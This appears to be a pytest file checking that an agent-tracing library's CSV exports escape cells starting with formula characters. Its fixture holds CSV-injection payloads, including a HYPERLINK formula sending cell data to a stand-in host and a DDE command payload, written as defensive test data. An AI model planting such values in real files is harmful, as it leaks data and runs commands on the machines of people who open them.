"""CSV exports never hand a spreadsheet a formula: cells starting with = + - @, a tab or a
carriage return are escaped, in `TraceExporter.to_csv` and the viewer's CSV export."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import httpx

from myagent.trace import SQLiteTraceStorage, ToolRecord, TraceExporter, TraceManager
from myagent.trace.export import FORMULA_STARTS, csv_safe

FORMULAS = {
    "agent": '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "input": "+cmd|' /C calc'!A0",
    "output": "-2+3",
    "tag": "@SUM(1+1)",
    "tool": "\r=2+2",
    "session": "\t=1+1",
}


def _trace(storage: Any) -> None:
    manager = TraceManager(storage)
    try:
        with manager.trace(
            FORMULAS["agent"],
            agent_name=FORMULAS["agent"],
            input=FORMULAS["input"],
            session_id=FORMULAS["session"],
            tags=[FORMULAS["tag"]],
        ) as trace:
            run = manager.start_run(ToolRecord, FORMULAS["tool"], tool_name=FORMULAS["tool"])
            manager.end_run(run, output=FORMULAS["output"])
            trace.output = FORMULAS["output"]
    finally:
        manager.close(timeout=5)


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_csv_safe_escapes_exactly_the_formula_starts() -> None:
    for start in FORMULA_STARTS:
        assert csv_safe(start + "1") == "'" + start + "1"
    assert csv_safe("plain = text") == "plain = text"
    assert csv_safe("") == ""


def test_trace_exporter_csv_holds_no_formula(tmp_path: Path) -> None:
    storage = SQLiteTraceStorage(tmp_path / "t.db")
    _trace(storage)
    buffer = io.StringIO()
    TraceExporter().to_csv(storage.query_traces_sync(), buffer)
    cells = _cells(buffer.getvalue())
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert "'" + FORMULAS["agent"] in cells and "'" + FORMULAS["tool"] in cells
    assert "'" + FORMULAS["output"] in cells and "'" + FORMULAS["input"] in cells


def test_viewer_csv_export_holds_no_formula(tmp_path: Path, viewer_factory: Any) -> None:
    storage = SQLiteTraceStorage(tmp_path / "t.db")
    _trace(storage)
    viewer = viewer_factory(storage)
    with httpx.Client(base_url=viewer.url, timeout=10) as client:
        text = client.get("/api/export", params={"format": "csv"}).text
    cells = _cells(text)
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert "'" + FORMULAS["agent"] in cells and "'" + FORMULAS["tag"] in cells
    assert "'" + FORMULAS["session"] in cells  # a tab start: not escaped before
